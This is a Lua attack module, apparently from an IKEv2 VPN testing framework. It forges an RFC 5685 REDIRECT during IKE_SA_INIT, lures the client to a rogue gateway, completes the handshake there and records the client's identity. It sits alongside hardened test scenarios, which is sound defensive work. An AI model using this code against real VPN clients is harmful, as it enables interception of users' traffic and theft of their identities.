-- A gateway that is busy sends its clients on: "go there", in the clear, before anything is proven (RFC 5685). The client's nonce in that answer tells it
-- from one by somebody who never saw the request. Who did see it can say "go there", too; the PAD decides what he gets then.
attack = {
  id = "A18", name = "forged-redirect",
  about = "Answers IKE_SA_INIT with a forged REDIRECT, and waits at the address that it names for the caller",
  position = "on-path",
  needs = "to see IKE_SA_INIT, and to be faster than the gateway; a caller that follows redirects",
  source = "RFC 5685, 3 and 10; catalogue A18",
  shows = {
    vulnerable = "the caller leaves its gateway for the address it is told, says there who it is, and has no tunnel",
    hardened = "without the caller's nonce a REDIRECT counts for nothing; and who needs no redirects need not follow any",
  },
  scenarios = { vulnerable = "forged-redirect", hardened = { "forged-redirect-blind", "forged-redirect-declined" } },
}

local answerer = library "answerer"
local goal = "draw the caller to a gateway of its own"

-- Parameters: to = the address it names; nonce = "seen" (default), or "guessed": of the request it uses the header alone, as a flow monitor shows it.
local to, blind, forged, me, done = nil, false, 0, nil, false
local redirect, redirected_from = 16407, 16408

function on_start(params)
  to = assert(params.to, "parameter to: an address")
  blind = params.nonce == "guessed"
end

-- GW Ident Type 1, an IPv4 address, and the nonce of the request (RFC 5685, 9.2)
local function forge(p, message)
  forged = forged + 1
  local nonce = blind and crypto.random(32) or find(message, "Ni/Nr").data
  answerer.reply(p, ike.encode{ spi_i = message.spi_i, spi_r = "0000000000000000", exchange = 34, response = true, initiator = false, message_id = 0,
    payloads = { ike.notify(redirect, "\1\4" .. inet.address(to) .. nonce) } },
    "a forged REDIRECT to " .. to .. (blind and ", with a nonce that it had to guess" or ", with the caller's nonce in it"))
end

on({ exchange = "IKE_SA_INIT", response = false }, function(p, message)
  if p.dst ~= to then return forge(p, message) end
  drop("the caller has come to " .. to)
  if me then return end
  local from = notify_of(message, redirected_from)
  learn("caller", "it comes to " .. to .. (from and #from.data == 6 and (", and names the gateway that it left: %d.%d.%d.%d"):format(from.data:byte(3, 6)) or ""),
    "REDIRECTED_FROM in IKE_SA_INIT to the address in the forged REDIRECT", from and from.data)
  me = answerer.answer(p, message, "IKE_SA_INIT answered at " .. to)
  achieved(goal, true, "the caller left its gateway for " .. to .. ", and has made keys with the one who waits there")
end)

on({ exchange = "IKE_AUTH", response = false }, function(p, message)
  if not me or message.spi_r ~= me.spi then return end
  drop("meant for the gateway, kept")
  local inner = not done and ring.open(p)
  local id = inner and find(inner, "IDi")
  if not id then return end
  done = true
  learn("identity", id.id_type_name .. " " .. id.data, "IDi is sent before the responder has shown who it is", id.data)
end)

function on_finish()
  if me then return end
  achieved(goal, false, forged == 0 and "nobody called" or
    forged .. " forged redirects, and the caller stayed with its gateway" .. (blind and ": none of them had its nonce" or ""))
end
